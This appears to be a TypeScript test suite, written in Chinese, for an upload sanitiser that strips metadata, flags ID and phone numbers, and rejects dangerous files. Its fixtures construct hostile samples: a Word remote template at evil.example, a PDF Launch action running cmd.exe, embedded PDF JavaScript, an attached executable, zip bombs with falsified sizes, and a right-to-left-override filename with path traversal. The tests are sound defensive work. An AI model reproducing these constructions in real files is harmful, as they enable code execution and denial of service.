import { PDFDocument, PDFName, StandardFonts } from '@cantoo/pdf-lib'
import ExcelJS from 'exceljs'
import { strToU8, zipSync } from 'fflate'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { inspect } from '../files/inspect.ts'
import { parse } from './parse.ts'
import { prepareFile } from './prepare.ts'
import { readZip, writeZip } from '../files/zip.ts'

const text = (bytes: Uint8Array | undefined): string => new TextDecoder().decode(bytes)
const refusal = (work: Promise<unknown> | (() => unknown)): Promise<string> =>
  Promise.resolve()
    .then(typeof work === 'function' ? work : () => work)
    .then(
      () => '收下了',
      (e: Error) => `${e.name}：${e.message}`,
    )

const photo = (): Promise<Buffer> =>
  sharp({ create: { width: 3000, height: 2000, channels: 3, background: '#7a9' } })
    .jpeg()
    .withMetadata({
      orientation: 6,
      exif: { IFD0: { Copyright: 'CAMERA-OWNER' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '38/1 3/1 0/1' } },
    })
    .toBuffer()

function docx(body: string, more: Record<string, string> = {}): Uint8Array {
  return zipSync(
    Object.fromEntries(
      Object.entries({
        '[Content_Types].xml':
          '<Types><Override PartName="/word/document.xml" ContentType="x"/><Override PartName="/word/comments.xml" ContentType="x"/></Types>',
        'word/document.xml': `<w:document><w:body>${body}</w:body></w:document>`,
        'docProps/core.xml':
          '<cp:coreProperties><dc:creator>李会计</dc:creator><cp:lastModifiedBy>李会计</cp:lastModifiedBy></cp:coreProperties>',
        ...more,
      }).map(([name, xml]) => [name, strToU8(xml)]),
    ),
  )
}

async function workbook(fill: (book: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const book = new ExcelJS.Workbook()
  book.creator = '李会计'
  book.company = '晴川财务'
  fill(book)
  return new Uint8Array(await book.xlsx.writeBuffer())
}

async function pdf(fill: (doc: PDFDocument) => Promise<void> | void): Promise<Uint8Array> {
  const doc = await PDFDocument.create()
  doc.setAuthor('AUTHOR-LI')
  doc.setTitle('SECRET-TITLE')
  await fill(doc)
  return doc.save({ useObjectStreams: false })
}

describe('照片', () => {
  test('手机照片的定位和机主信息没有了，方向转正，缩到 2560 以内', async () => {
    const file = await prepareFile(new Uint8Array(await photo()), '公示栏.JPEG')
    const meta = await sharp(file.bytes).metadata()
    expect([meta.exif, meta.xmp, meta.iptc]).toEqual([undefined, undefined, undefined])
    expect([meta.width, meta.height]).toEqual([1707, 2560])
    expect([file.kind, file.mime, file.name]).toEqual(['image', 'image/jpeg', '公示栏.jpg'])
    expect(file.notes[0]).toContain('请看清')
  })
  test.each([
    ['王秀英 450521196304125568.jpg', '照片.jpg'],
    ['三组 E12345678.JPEG', '照片.jpg'],
    ['扫描件 6222020200112233445.jpg', '照片.jpg'],
    ['公示栏 2026年9月.jpg', '公示栏 2026年9月.jpg'],
  ])('文件名里像证件号、卡号的（%s），给大家看时改了名；办理的人看到原来的', async (name, shown) => {
    const bytes = new Uint8Array(await photo())
    const file = await prepareFile(bytes, name, { forReaders: true })
    expect([file.name, file.findings]).toEqual([shown, []])
    expect(file.notes.join().includes('已经改名'), '告诉上传的人').toBe(shown === '照片.jpg')
    expect((await prepareFile(bytes, name)).name).toBe(name.replace('JPEG', 'jpg'))
  })

  test('像素炸弹、坏图、苹果 HEIC 都说得出怎么办', async () => {
    const bomb = await sharp({ create: { width: 16000, height: 5000, channels: 3, background: '#fff' } })
      .png()
      .toBuffer()
    expect(await refusal(prepareFile(bomb, 'a.png'))).toContain('6000 万像素')
    expect(await refusal(prepareFile(new Uint8Array(await photo()).subarray(0, 900), 'a.jpg'))).toContain('没有传完整')
    const heic = new Uint8Array([0, 0, 0, 24, ...strToU8('ftypheic'), 0, 0, 0, 0])
    expect(await refusal(() => inspect(heic, 'IMG_1.jpg'))).toContain('兼容性最佳')
  })
})

test('看内容，不看名字', async () => {
  expect(
    inspect(
      await pdf((d) => {
        d.addPage()
      }),
      '../../发票\u202efdp.jpg',
    ),
  ).toMatchObject({ type: 'pdf', name: '发票fdp.pdf' })
  expect(await refusal(() => inspect(strToU8('MZ\u0000\u0001程序'), '通知.pdf'))).toContain('不认识')
  expect(await refusal(() => inspect(strToU8('<html>你好'), '通知.pdf'))).toContain('写在正文里')
  expect(await refusal(() => inspect(new Uint8Array(), '空.pdf'))).toContain('空的')
})

describe('Word 文件', () => {
  test('作者、批注没有了；拆开写的身份证号照样发现', async () => {
    const body =
      '<w:p><w:r><w:t>张三 1101</w:t></w:r><w:r><w:t>0519491231002X</w:t></w:r><w:commentReference w:id="0"/></w:p>'
    const file = await prepareFile(
      docx(body, {
        'word/comments.xml': '<w:comments><w:comment w:author="李会计">内部意见</w:comment></w:comments>',
        'word/_rels/document.xml.rels':
          '<Relationships><Relationship Id="r1" Type="t/comments" Target="comments.xml"/></Relationships>',
      }),
      '名单.docx',
    )
    const parts = readZip(file.bytes)
    expect([...parts.keys()]).not.toContain('word/comments.xml')
    expect([...parts.values()].map(text).join()).not.toMatch(/李会计|内部意见|comments\.xml|commentReference/)
    expect(file.findings.map((f) => `${f.kind}:${f.severity}`)).toEqual(['id:refuse'])
    expect(file.findings[0]?.say).toBe('附件“名单.docx”里出现身份证号 110*************2X，不能公开，请删去。')
    expect(text(parts.get('word/document.xml'))).toContain('张三 1101')
  })
  test('修订痕迹和隐藏文字要人看；宏和嵌入文件不收；外部模板不连', async () => {
    const revised = await prepareFile(
      docx(
        '<w:p><w:del w:author="李会计" w:date="2026-09-01"><w:r><w:delText>13800138000</w:delText></w:r></w:del><w:r><w:rPr><w:vanish/></w:rPr></w:r></w:p>',
      ),
      '方案.docx',
    )
    expect(revised.notes.join()).toMatch(/隐藏的文字.*修订痕迹/)
    expect(revised.findings.map((f) => f.kind)).toEqual(['mobile'])
    expect(text(readZip(revised.bytes).get('word/document.xml'))).not.toContain('李会计')
    expect(await refusal(prepareFile(docx('', { 'word/vbaProject.bin': 'x' }), 'a.docx'))).toContain('宏')
    expect(await refusal(prepareFile(docx('', { 'word/embeddings/a.xlsx': 'x' }), 'a.docx'))).toContain('嵌入')
    const outward = await prepareFile(
      docx('', {
        'word/_rels/document.xml.rels':
          '<Relationships><Relationship Id="r1" Type="t/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/><Relationship Id="r2" Type="t/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/></Relationships>',
      }),
      'a.docx',
    )
    const rels = text(readZip(outward.bytes).get('word/_rels/document.xml.rels'))
    expect([rels.includes('evil.example'), rels.includes('https://www.gov.cn/')]).toEqual([false, true])
  })
})

describe('Excel 附件', () => {
  test('作者、单位、批注、图片定位没有了；隐藏的行列表都点出来；还能打开', async () => {
    const gps = await photo()
    const bytes = await workbook((book) => {
      const sheet = book.addWorksheet('补贴')
      sheet.addRow(['姓名', '金额']).getCell(1).note = '李会计的批注'
      sheet.addRow(['王五', 100]).hidden = true
      sheet.getColumn(2).hidden = true
      sheet.addImage(book.addImage({ buffer: gps as unknown as ExcelJS.Buffer, extension: 'jpeg' }), 'D1:E5')
      book.addWorksheet('底册', { state: 'hidden' }).addRow(['李四', '110105', '19491231002X'])
    })
    const file = await prepareFile(bytes, '补贴.xlsx')
    const raw = (files: Map<string, Uint8Array>): string =>
      [...files.values()].map((p) => Buffer.from(p).toString('latin1') + text(p)).join()
    expect(raw(readZip(bytes))).toContain('CAMERA-OWNER')
    const parts = readZip(file.bytes)
    expect(raw(parts)).not.toMatch(/李会计|晴川财务|CAMERA-OWNER/)
    expect(file.notes.join()).toMatch(/隐藏的工作表（底册）.*隐藏的行.*隐藏的列.*1 张图片/s)
    expect(file.findings.map((f) => f.kind)).toEqual(['id'])
    const again = new ExcelJS.Workbook()
    await again.xlsx.load(file.bytes as unknown as ExcelJS.Buffer)
    expect(again.getWorksheet('补贴')?.getCell('A2').value).toBe('王五')
  })

  test('部件放在别处的，清理不到，不收；加了密码的、.ods 也说怎么办', async () => {
    const parts = readZip(await workbook((book) => book.addWorksheet('补贴').addRow(['王五', 100])))
    const moved = new Map(
      [...parts].map(([name, data]) => [
        name.replace('xl/worksheets/', 'xl/pages/'),
        /rels$|Content_Types/.test(name)
          ? new TextEncoder().encode(text(data).replaceAll('worksheets/', 'pages/'))
          : data,
      ]),
    )
    await expect(prepareFile(writeZip(moved), '补贴.xlsx')).rejects.toThrow('结构不常见')
    const twice = new Map([...parts, ['xl/Workbook.xml', new Uint8Array(3)]])
    await expect(prepareFile(writeZip(twice), '补贴.xlsx')).rejects.toThrow('已损坏')
    const ods = writeZip(
      new Map([['mimetype', new TextEncoder().encode('application/vnd.oasis.opendocument.spreadsheet')]]),
    )
    await expect(prepareFile(ods, '补贴.ods')).rejects.toThrow('另存为 .xlsx')
    const locked = new Uint8Array(
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]),
    )
    await expect(prepareFile(locked, '补贴.xlsx')).rejects.toThrow('去掉密码')
  })
})

describe('PDF', () => {
  test('作者、标题、旧版本都不在了，文字还在，电话被发现', async () => {
    const bytes = await pdf(async (doc) => {
      doc.addPage().drawText('Tel 13800138000', { font: await doc.embedFont(StandardFonts.Helvetica) })
    })
    const file = await prepareFile(bytes, '合同.pdf')
    const clean = await PDFDocument.load(file.bytes, { updateMetadata: false })
    expect([clean.getAuthor(), clean.getTitle(), clean.getPageCount()]).toEqual([undefined, undefined, 1])
    expect(Buffer.from(file.bytes).toString('latin1')).not.toMatch(/AUTHOR-LI|SECRET-TITLE/)
    expect(file.findings.map((f) => `${f.kind}:${f.severity}`)).toEqual(['mobile:refuse'])
  })
  test('扫描件请人看；脚本和附带文件不收；坏文件说明白', async () => {
    const scan = await prepareFile(
      await pdf((doc) => {
        doc.addPage()
      }),
      '扫描.pdf',
    )
    expect(scan.notes[0]).toContain('1 页是扫描件')
    expect(
      await refusal(
        prepareFile(
          await pdf((doc) => {
            doc.addPage()
            doc.addJavaScript('x', 'app.alert(1)')
          }),
          'a.pdf',
        ),
      ),
    ).toContain('脚本')
    expect(
      await refusal(
        prepareFile(
          await pdf(async (doc) => {
            doc.addPage()
            await doc.attach(strToU8('x'), 'a.exe')
          }),
          'a.pdf',
        ),
      ),
    ).toContain('附带的文件')
    expect(await refusal(prepareFile(strToU8('%PDF-1.7 broken'), 'a.pdf'))).toMatch(/FileRefused/)
    const catalog = await pdf((doc) => {
      doc.addPage()
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'Launch', F: 'cmd.exe' }))
    })
    expect(await refusal(prepareFile(catalog, 'a.pdf'))).toContain('脚本')
  })
})

describe('压缩包炸弹', () => {
  test('目录里写明超过 100 MB 的，一个字节也不解', async () => {
    const bomb = zipSync({ 'xl/workbook.xml': new Uint8Array(101 * 1024 * 1024) })
    expect(bomb.length).toBeLessThan(1024 * 1024)
    expect(await refusal(() => readZip(bomb))).toContain('超过 100 MB')
  })
  test('目录里谎报大小的，解到限额就停', async () => {
    const bomb = zipSync({ 'a.xml': new Uint8Array(3 * 1024 * 1024) })
    const view = new DataView(bomb.buffer)
    const directory = view.getUint32(bomb.length - 22 + 16, true)
    view.setUint32(directory + 24, 10, true)
    expect(await refusal(() => readZip(bomb, { maxBytes: 1024 * 1024, maxEntries: 10 }))).toMatch(/FileRefused/)
  })
  test('坏的、加密的、部件太多的', async () => {
    const good = zipSync({ 'a.xml': strToU8('<a/>') })
    expect(await refusal(() => readZip(good.subarray(0, good.length - 30)))).toContain('损坏')
    expect(await refusal(() => readZip(good, { maxBytes: 10, maxEntries: 0 }))).toContain('部件超过')
    expect(text(readZip(writeZip(readZip(good))).get('a.xml'))).toBe('<a/>')
  })
  test('读得太久的停下来，服务照常', async () => {
    expect(await refusal(parse('text', { bytes: docx('<w:p/>') }, { limits: { heapMb: 256, timeMs: 1 } }))).toContain(
      '没有读完',
    )
    expect((await parse('text', { bytes: docx('<w:p><w:t>好</w:t></w:p>') })).text).toContain('好')
  })
})
